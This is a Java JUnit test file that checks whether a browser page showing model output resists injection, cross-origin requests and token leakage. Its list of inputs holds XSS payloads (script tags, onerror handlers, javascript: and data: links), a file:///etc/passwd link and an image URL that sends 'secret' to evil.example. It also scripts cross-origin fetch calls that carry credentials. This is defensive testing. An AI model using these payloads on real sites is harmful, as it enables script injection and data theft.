package io.sluice.page.browser;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** What a model says runs nothing, and what other pages send is not answered. */
class SafetyTest extends BrowserTest {

  private static final List<String> HOSTILE =
      List.of(
          "<script>window.hit = 1</script>\n\n",
          "<img src=x onerror='window.hit = 1'>\n\n",
          "<svg onload='window.hit = 1'><animate onbegin='window.hit = 1'/></svg>\n\n",
          "<iframe srcdoc='<script>parent.hit = 1</script>'></iframe>\n\n",
          "<form action='https://evil.example/'><button>go</button></form>\n\n",
          "[run](javascript:window.hit=1) [data](data:text/html,<script>hit=1</script>)\n\n",
          "[tab](java\tscript:window.hit=1) <javascript:window.hit=1>\n\n",
          "[vb](vbscript:x) [file](file:///etc/passwd) [blob](blob:http://127.0.0.1/x)\n\n",
          "![leak](https://evil.example/?q=secret) ![d](data:image/svg+xml,<svg/>)\n\n",
          "[fine](https://example.org/a?b=c) and http://example.org/plain\n\n",
          "[\"><img src=x onerror=hit=1>](https://example.org/%22onmouseover=%22hit=1)\n\n",
          "| <script>hit=1</script> | `x` |\n|---|---|\n| <img src=x onerror=hit=1> | y |\n\n",
          "````html\n```\n<script>window.hit = 1</script>\n```\n````\n\n",
          "admin\u202etxt.exe \u2066right\u2069 to left\n\n",
          ">".repeat(100_000) + " deep\n\n",
          "- ".repeat(5_000) + "list\n\n",
          "*".repeat(20_000) + "a" + "[".repeat(20_000) + "\n\n",
          "the end");

  @TempDir private Path folder;

  @Test
  void nothingThatAModelSaysRunsOrLeavesThePage() {
    ServedPage page = kept(ServedPage.answering(folder, 0, HOSTILE));
    Tab tab = ask(open(page), "<b>bold</b> & <script>hit=1</script>").until(ENDED);

    assertThat(tab.text(".text")).contains("the end", "<script>window.hit = 1</script>");
    assertThat(tab.text(".question")).contains("<b>bold</b>");
    assertThat(tab.read("String(window.hit)")).isEqualTo("undefined");
    assertThat(
            tab.read(
                "document.querySelectorAll('main :is(img, script, iframe, svg,"
                    + " form:not(.prompt))').length"))
        .isEqualTo("0");
    assertThat(
            tab.read(
                "[...document.querySelectorAll('.text a')].every(link =>"
                    + " ['http:', 'https:', 'mailto:'].includes(link.protocol))"))
        .isEqualTo("true");
    assertThat(tab.origins()).containsExactly(page.origin());
    assertThat(tab.complaints()).isEmpty();
  }

  @Test
  void aNameThatLeadsHereIsNotEnough() {
    ServedPage page = kept(ServedPage.answering(folder, 0, words(1)));
    Tab tab = tab().go(page.direct("evil.example")).until("document.readyState === 'complete'");

    assertThat(tab.text("body")).contains("does not answer for the host", "evil.example");
  }

  @Test
  void aPageOfAnotherPortStartsAndReadsNothing() {
    ServedPage page = kept(ServedPage.answering(folder, 0, words(1)));
    open(page);
    ServedPage other = kept(ServedPage.answering(folder, 0, words(1)));
    Tab hostile =
        tab()
            .go(other.direct("127.0.0.1") + "/healthz")
            .until("document.readyState === 'complete'");
    String target = page.origin();

    String order =
        "{\"request\":{\"model\":\"m\",\"messages\":[{\"role\":\"user\",\"content\":\"?\"}]}}";
    hostile.read(
        "fetch('"
            + target
            + "/api/runs', {method: 'POST', mode: 'no-cors', credentials: 'include',"
            + " body: "
            + Tab.quoted(order)
            + "}).catch(() => 0).then(() => 0)");
    String read =
        hostile.read(
            "fetch('"
                + target
                + "/api/about', {credentials: 'include'}).then(r => r.text(), e => 'refused')");
    String stream =
        hostile.read(
            "new Promise(done => { const s = new EventSource('"
                + target
                + "/api/events?run=x', {withCredentials: true}); s.onerror = () => done('refused');"
                + " s.onmessage = () => done('read') })");

    assertThat(List.of(read, stream)).containsOnly("refused");
    Tab own = tab().go(target + "/").until(READY);
    assertThat(own.read("fetch('/api/runs').then(r => r.json()).then(r => r.runs.length)"))
        .isEqualTo("0");
  }

  @Test
  void theTokenLeavesTheAddressAndTheStorage() {
    ServedPage page = kept(ServedPage.answering(folder, 0, words(1)));
    Tab tab = open(page);

    assertThat(
            tab.read(
                "location.href + JSON.stringify(localStorage) + JSON.stringify(sessionStorage)"
                    + " + document.cookie + document.documentElement.outerHTML"))
        .doesNotContain("token-of-the-browser-tests");
  }

  @Test
  void withoutATokenThePageSaysWhatToDo() {
    ServedPage page = kept(ServedPage.answering(folder, 0, words(1)));
    Tab tab = tab();
    tab.go(page.origin() + "/#t=wrong").untilThereIs(".closed");

    assertThat(tab.text(".closed")).contains("sluice serve", "#t=");
  }
}
